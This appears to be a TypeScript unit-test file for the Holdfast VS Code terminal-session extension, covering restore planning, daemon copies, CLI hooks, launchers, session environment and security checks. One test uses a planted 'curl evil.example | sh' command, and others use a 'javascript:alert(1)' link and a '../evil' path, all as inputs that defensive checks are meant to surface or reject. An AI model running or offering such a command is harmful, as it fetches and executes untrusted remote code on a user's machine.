// Unit tests of the extension's pure parts (no vscode): layout/restore planning, the daemon's
// versioned copy, the `code` hook and launchers, the session environment, notices, status checks.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { test } from 'node:test';
import type { SessionInfo } from '../src/protocol/messages';
import {
  findRemoteCli,
  hookPath,
  newHookId,
  pointHook,
  pruneHooks,
  writeCodeShim,
  writeHoldfastLauncher,
} from '../src/extension/codeCli';
import { shellQuote } from '../src/text/shellQuote';
import { readLayout, withLayout } from '../src/protocol/tabLayout';
import { ensureDaemonInstall, installName, pruneDaemonInstalls } from '../src/extension/daemonInstall';
import { formatChecks, runChecks } from '../src/extension/doctor';
import { defaultSessionName, nextOrder, planRestore, workspaceKey } from '../src/extension/layout';
import { archivedNotice, exitNotice, noticeLine } from '../src/extension/notices';
import { NotificationPacer } from '../src/extension/notificationPacer';
import { buildSessionEnv, prependPath } from '../src/extension/sessionEnv';
import { sessionInfo } from './helpers/sessionInfo';

function session(id: string, metadata: Record<string, unknown>, extra: Partial<SessionInfo> = {}): SessionInfo {
  return sessionInfo(id, { metadata, ...extra });
}

function tmpdir(): string {
  return fs.mkdtempSync(path.join(os.tmpdir(), 'hf-ext-'));
}

const W = 'file:///work/project';

test('restore plan: this workspace only, in order, detached and shown left out, the last active wins', () => {
  const sessions = [
    session('c', { workspace: W, order: 2, location: 'editor', activeAt: 50 }),
    session('a', { workspace: W, order: 0, activeAt: 10 }),
    session('other', { workspace: 'file:///elsewhere', order: 1 }),
    session('b', { workspace: W, order: 1, activeAt: 99 }),
    session('hidden', { workspace: W, order: 3, detached: true, activeAt: 1000 }),
    session('shown', { workspace: W, order: 4 }),
    session('cli', {}),
  ];
  const plan = planRestore(sessions, W, new Set(['shown']));
  assert.deepEqual(
    plan.items.map((i) => [i.session.id, i.location]),
    [
      ['a', 'panel'],
      ['b', 'panel'],
      ['c', 'editor'],
    ],
  );
  assert.equal(plan.activeId, 'b');
});

test('restore plan: exited sessions come back (their tab was open); missing order sorts by creation', () => {
  const sessions = [
    session('late', { workspace: W }, { createdAt: 3 }),
    session('early', { workspace: W }, { createdAt: 1 }),
    session('done', { workspace: W, order: 0 }, { state: 'exited', exit: { code: 0, signal: null, at: 1 } }),
  ];
  assert.deepEqual(
    planRestore(sessions, W, new Set()).items.map((i) => i.session.id),
    ['done', 'early', 'late'],
  );
  assert.equal(planRestore(sessions, W, new Set()).activeId, undefined);
});

test('layout metadata: reading ignores wrong types; patches keep foreign keys and delete undefined ones', () => {
  assert.deepEqual(
    readLayout({ workspace: 3, order: 'x', location: 'sidebar', activeAt: NaN, detached: 'yes', cliHook: '../evil' }),
    {},
  );
  assert.deepEqual(
    readLayout({ workspace: W, order: 2, location: 'editor', activeAt: 5, detached: true, cliHook: 'abc123' }),
    { workspace: W, order: 2, location: 'editor', activeAt: 5, detached: true, cliHook: 'abc123' },
  );
  const next = withLayout({ agent: 'claude', detached: true, order: 1 }, { detached: undefined, order: 4 });
  assert.deepEqual(next, { agent: 'claude', order: 4 });
});

test('workspace key: workspace file, else first folder, else the empty window', () => {
  assert.equal(workspaceKey('file:///a.code-workspace', ['file:///x']), 'file:///a.code-workspace');
  assert.equal(workspaceKey('untitled:Untitled-1', ['file:///x', 'file:///y']), 'file:///x');
  assert.equal(workspaceKey(undefined, []), 'empty-window');
});

test('next order and default names', () => {
  const sessions = [session('a', { workspace: W, order: 4 }), session('b', { workspace: 'file:///other', order: 9 })];
  assert.equal(nextOrder(sessions, W), 5);
  assert.equal(nextOrder([], W), 0);
  const named = [session('x', {}, { name: 'holdfast 1' }), session('y', {}, { name: 'holdfast 3' })];
  assert.equal(defaultSessionName(named), 'holdfast 2');
  assert.equal(defaultSessionName([]), 'holdfast 1');
});

function fakeExtension(): string {
  const ext = tmpdir();
  fs.mkdirSync(path.join(ext, 'dist'));
  fs.writeFileSync(path.join(ext, 'dist', 'daemon.js'), 'console.log("daemon")\n');
  fs.writeFileSync(path.join(ext, 'dist', 'cli.js'), 'console.log("cli")\n');
  const pty = path.join(ext, 'node_modules', 'node-pty');
  fs.mkdirSync(path.join(pty, 'lib'), { recursive: true });
  fs.mkdirSync(path.join(pty, 'build', 'Release'), { recursive: true });
  fs.mkdirSync(path.join(pty, 'src'), { recursive: true });
  fs.writeFileSync(path.join(pty, 'package.json'), '{"name":"node-pty","main":"./lib/index.js"}');
  fs.writeFileSync(path.join(pty, 'lib', 'index.js'), '');
  fs.writeFileSync(path.join(pty, 'lib', 'index.test.js'), '');
  fs.writeFileSync(path.join(pty, 'build', 'Release', 'pty.node'), 'binary');
  fs.writeFileSync(path.join(pty, 'build', 'Release', 'spawn-helper'), '#!/bin/sh\n', { mode: 0o755 });
  fs.writeFileSync(path.join(pty, 'build', 'Release', 'obj.o'), '');
  fs.writeFileSync(path.join(pty, 'src', 'unix.cc'), '');
  return ext;
}

test('daemon copy: one folder per version and bundle, runtime files only, reused, executable bits kept', () => {
  const ext = fakeExtension();
  const storage = tmpdir();
  const first = ensureDaemonInstall(ext, storage, '1.2.3');
  assert.match(path.basename(first.dir), /^1\.2\.3-[0-9a-f]{12}$/);
  assert.equal(fs.readFileSync(first.daemonScript, 'utf8'), 'console.log("daemon")\n');
  assert.ok(fs.existsSync(first.cliScript));
  const pty = path.join(first.dir, 'node_modules', 'node-pty');
  assert.ok(fs.existsSync(path.join(pty, 'lib', 'index.js')));
  assert.ok(fs.existsSync(path.join(pty, 'build', 'Release', 'pty.node')));
  assert.ok(fs.statSync(path.join(pty, 'build', 'Release', 'spawn-helper')).mode & 0o100);
  for (const left of ['lib/index.test.js', 'build/Release/obj.o', 'src/unix.cc'])
    assert.ok(!fs.existsSync(path.join(pty, left)), left);
  assert.deepEqual(ensureDaemonInstall(ext, storage, '1.2.3'), first);
  // A rebuilt bundle (same version) gets its own folder; the old one stays for a daemon still running from it.
  fs.writeFileSync(path.join(ext, 'dist', 'daemon.js'), 'console.log("daemon v2")\n');
  const second = ensureDaemonInstall(ext, storage, '1.2.3');
  assert.notEqual(second.dir, first.dir);
  assert.ok(fs.existsSync(first.daemonScript));
  assert.equal(installName('1.2.3', Buffer.from('x')), installName('1.2.3', Buffer.from('x')));
});

test('daemon copy: a missing node-pty is a clear error and leaves no half copy', () => {
  const ext = fakeExtension();
  fs.rmSync(path.join(ext, 'node_modules'), { recursive: true });
  const storage = tmpdir();
  assert.throws(() => ensureDaemonInstall(ext, storage, '1.0.0'), /node-pty is missing/);
  assert.deepEqual(fs.readdirSync(path.join(storage, 'daemon')), []);
});

test('pruning old copies keeps the current one, the newest few and anything recent', () => {
  const storage = tmpdir();
  const root = path.join(storage, 'daemon');
  const now = Date.now();
  const day = 24 * 3600_000;
  const make = (name: string, ageDays: number) => {
    fs.mkdirSync(path.join(root, name), { recursive: true });
    const t = new Date(now - ageDays * day);
    fs.utimesSync(path.join(root, name), t, t);
  };
  make('v1', 30);
  make('v2', 20);
  make('v3', 10);
  make('v4', 9);
  make('v5', 8);
  make('recent', 1);
  const removed = pruneDaemonInstalls(storage, path.join(root, 'v1'), 3, 7 * day, now).map((d) => path.basename(d));
  // Newest first: recent, v5, v4 are the three kept; v1 is in use; v3 and v2 go.
  assert.deepEqual(removed.sort(), ['v2', 'v3']);
  assert.deepEqual(fs.readdirSync(root).sort(), ['recent', 'v1', 'v4', 'v5']);
});

test('code hook: a stable short path re-pointed in one step; stale ones pruned', () => {
  const dir = tmpdir();
  fs.chmodSync(dir, 0o700);
  const socket = path.join(dir, 'holdfast.sock');
  const id = newHookId();
  assert.match(id, /^[0-9a-f]{12}$/);
  const link = hookPath(socket, id);
  assert.equal(link, path.join(dir, 'cli', `${id}.sock`));
  pointHook(link, '/run/window-1.sock');
  assert.equal(fs.readlinkSync(link), '/run/window-1.sock');
  assert.equal(fs.statSync(path.join(dir, 'cli')).mode & 0o777, 0o700);
  pointHook(link, '/run/window-2.sock');
  assert.equal(fs.readlinkSync(link), '/run/window-2.sock');
  pointHook(hookPath(socket, 'stale'), '/x');
  pruneHooks(socket, new Set([id]));
  assert.deepEqual(fs.readdirSync(path.join(dir, 'cli')), [`${id}.sock`]);
});

test('launchers: holdfast runs the bundled CLI with the given node; code runs the editor CLI', () => {
  const dir = tmpdir();
  const cli = path.join(dir, "it's cli.js");
  fs.writeFileSync(
    cli,
    'console.log(JSON.stringify({argv: process.argv.slice(2), socket: process.env.HOLDFAST_SOCKET, ' +
      'electron: process.env.ELECTRON_RUN_AS_NODE}))',
  );
  const launcher = writeHoldfastLauncher(path.join(dir, 'bin'), process.execPath, cli, '/tmp/my "odd" $sock');
  const out = JSON.parse(
    execFileSync(launcher, ['list', 'a b'], { encoding: 'utf8', env: { PATH: process.env.PATH } }),
  );
  assert.deepEqual(out, { argv: ['list', 'a b'], socket: '/tmp/my "odd" $sock', electron: '1' });
  const kept = JSON.parse(
    execFileSync(launcher, [], { encoding: 'utf8', env: { PATH: process.env.PATH, HOLDFAST_SOCKET: '/mine' } }),
  );
  assert.equal(kept.socket, '/mine');

  const editorCli = path.join(dir, 'remote-cli-code');
  fs.writeFileSync(editorCli, '#!/bin/sh\necho "editor:$*"\n', { mode: 0o755 });
  const shim = writeCodeShim(path.join(dir, 'session-bin'), editorCli);
  assert.equal(execFileSync(shim, ['notes.txt'], { encoding: 'utf8' }), 'editor:notes.txt\n');
  assert.equal(shellQuote("a'b"), `'a'\\''b'`);
});

test('remote CLI: found under appRoot/bin/remote-cli, `code` preferred', () => {
  const app = tmpdir();
  assert.equal(findRemoteCli(app), undefined);
  const dir = path.join(app, 'bin', 'remote-cli');
  fs.mkdirSync(dir, { recursive: true });
  // code-server's layout: per-platform scripts and a link.
  fs.writeFileSync(path.join(dir, 'code-darwin.sh'), '');
  fs.writeFileSync(path.join(dir, 'code.cmd'), '');
  assert.equal(findRemoteCli(app), undefined);
  fs.writeFileSync(path.join(dir, `code-${process.platform}.sh`), '');
  fs.symlinkSync(`code-${process.platform}.sh`, path.join(dir, 'code-server'));
  assert.deepEqual(findRemoteCli(app), { dir, script: path.join(dir, `code-${process.platform}.sh`) });
  fs.writeFileSync(path.join(dir, 'code'), '');
  assert.deepEqual(findRemoteCli(app), { dir, script: path.join(dir, 'code') });
});

test('session environment: editor-process variables dropped, hook and PATH set', () => {
  const env = buildSessionEnv(
    {
      PATH: '/usr/bin:/opt/hf/bin:/bin',
      HOME: '/home/u',
      VSCODE_IPC_HOOK_CLI: '/stale.sock',
      VSCODE_PID: '9',
      ELECTRON_RUN_AS_NODE: '1',
      NODE_OPTIONS: '--inspect',
      HOLDFAST_SESSION: 'old',
      LANG: 'C.UTF-8',
    },
    {
      pathPrepend: ['/opt/hf/bin', '/opt/code-bin'],
      cliHook: '/run/holdfast/cli/abc.sock',
      termProgramVersion: '1.139.1',
    },
  );
  assert.equal(env.PATH, '/opt/hf/bin:/opt/code-bin:/usr/bin:/bin');
  assert.equal(env.VSCODE_IPC_HOOK_CLI, '/run/holdfast/cli/abc.sock');
  assert.equal(env.HOME, '/home/u');
  assert.equal(env.LANG, 'C.UTF-8');
  for (const gone of ['VSCODE_PID', 'ELECTRON_RUN_AS_NODE', 'NODE_OPTIONS', 'HOLDFAST_SESSION'])
    assert.equal(env[gone], undefined, gone);
  assert.equal(env.TERM_PROGRAM, 'vscode');
  assert.equal(buildSessionEnv({ VSCODE_IPC_HOOK_CLI: '/x' }, { pathPrepend: [] }).VSCODE_IPC_HOOK_CLI, undefined);
  assert.equal(prependPath('', ['/a']), '/a');
});

test('notices: own line, dim, exit code or signal', () => {
  assert.equal(noticeLine('hi'), '\r\n\x1b[0m\x1b[2m[holdfast] hi\x1b[0m\r\n');
  assert.match(exitNotice({ code: 3, signal: null, at: 0 }), /exited with code 3/);
  assert.match(exitNotice({ code: null, signal: 'SIGKILL', at: 0 }), /signal SIGKILL/);
});

test('an archived tab names the exact command relaunch or resume would run, from the checkpoint', () => {
  const archivedFrom = { checkpoint: 'c1', writtenAt: 0, running: true };
  const planted = sessionInfo('s1', {
    cwd: '/home/me/project',
    argv: ['sh', '-c', 'curl evil.example | sh'],
    metadata: { archivedFrom },
  });
  assert.match(
    archivedNotice('relaunch', planted),
    /Start it again in \/home\/me\/project with `sh -c 'curl evil\.example \| sh'`: "Holdfast: Relaunch Session"/,
  );
  const agent = sessionInfo('s2', {
    argv: ['claude', '--session-id', 'abc'],
    metadata: { archivedFrom, agent: { profile: 'claude', sessionId: '0f0e' } },
  });
  assert.match(archivedNotice('resume', agent), /with `claude --resume 0f0e`: "Holdfast: Resume Session"/);
  const own = sessionInfo('s3', { metadata: { archivedFrom, agent: { profile: 'mine', sessionId: 'x1' } } });
  assert.match(archivedNotice('resume', own), /with your agent profile's resume command \(setting holdfast\.agents\)/);
});

test('status checks without a daemon say so and how to fix it', async () => {
  const dir = tmpdir();
  fs.chmodSync(dir, 0o700);
  const checks = await runChecks({
    socket: path.join(dir, 'holdfast.sock'),
    client: undefined,
    extensionVersion: '0.1.0',
    systemdScope: false,
    workspace: W,
    tabsHere: 0,
  });
  const daemon = checks.find((c) => c.name === 'daemon');
  assert.equal(daemon?.level, 'fail');
  assert.ok(daemon?.fix);
  const lines = formatChecks(checks);
  assert.ok(lines.some((l) => l.startsWith('✗ daemon: no daemon listens on')));
  assert.ok(lines.some((l) => l.includes('systemd')));
});

test('security: previews follow no link; an untrusted workspace cannot pick the shell, agents or socket', async () => {
  const fs = await import('node:fs');
  const path = await import('node:path');
  const { PREVIEW_LINKS } = await import('../src/extension/webview/links');
  let opened = false;
  const realOpen = (globalThis as { open?: unknown }).open;
  (globalThis as { open?: unknown }).open = () => (opened = true);
  try {
    PREVIEW_LINKS.activate({} as MouseEvent, 'javascript:alert(1)', { start: { x: 1, y: 1 }, end: { x: 2, y: 1 } });
  } finally {
    (globalThis as { open?: unknown }).open = realOpen;
  }
  assert.equal(opened, false);
  const root = path.join(__dirname, '..', '..');
  assert.match(
    fs.readFileSync(path.join(root, 'src', 'extension', 'webview', 'preview.ts'), 'utf8'),
    /linkHandler: PREVIEW_LINKS/,
  );
  const manifest = JSON.parse(fs.readFileSync(path.join(root, 'package.json'), 'utf8'));
  assert.deepEqual(manifest.capabilities.untrustedWorkspaces.restrictedConfigurations.sort(), [
    'holdfast.agents',
    'holdfast.hosts',
    'holdfast.shell.args',
    'holdfast.shell.path',
    'holdfast.socketPath',
    'holdfast.worktrees.folder',
  ]);
  for (const key of manifest.capabilities.untrustedWorkspaces.restrictedConfigurations)
    assert.ok(manifest.contributes.configuration.properties[key], `${key} is a real setting`);
});

test('regression: a session flipping into waiting notified ~12 times a second; now once per quiet period', () => {
  const pacer = new NotificationPacer(30_000);
  let told = 0;
  // 20,000 flips into waiting within 5 s (a loop of OSC 133;C and BEL), one session.
  for (let i = 0; i < 20_000; i++) if (pacer.take('a', 1_000 + i / 4)) told++;
  assert.equal(told, 1);
  assert.equal(pacer.take('b', 2_000), true, 'another session has its own period');
  assert.equal(pacer.take('a', 31_000), true, 'after the quiet period it may notify again');
  pacer.keepOnly(new Set(['b']));
  assert.equal(pacer.take('a', 31_001), true, 'a forgotten session starts afresh');
});
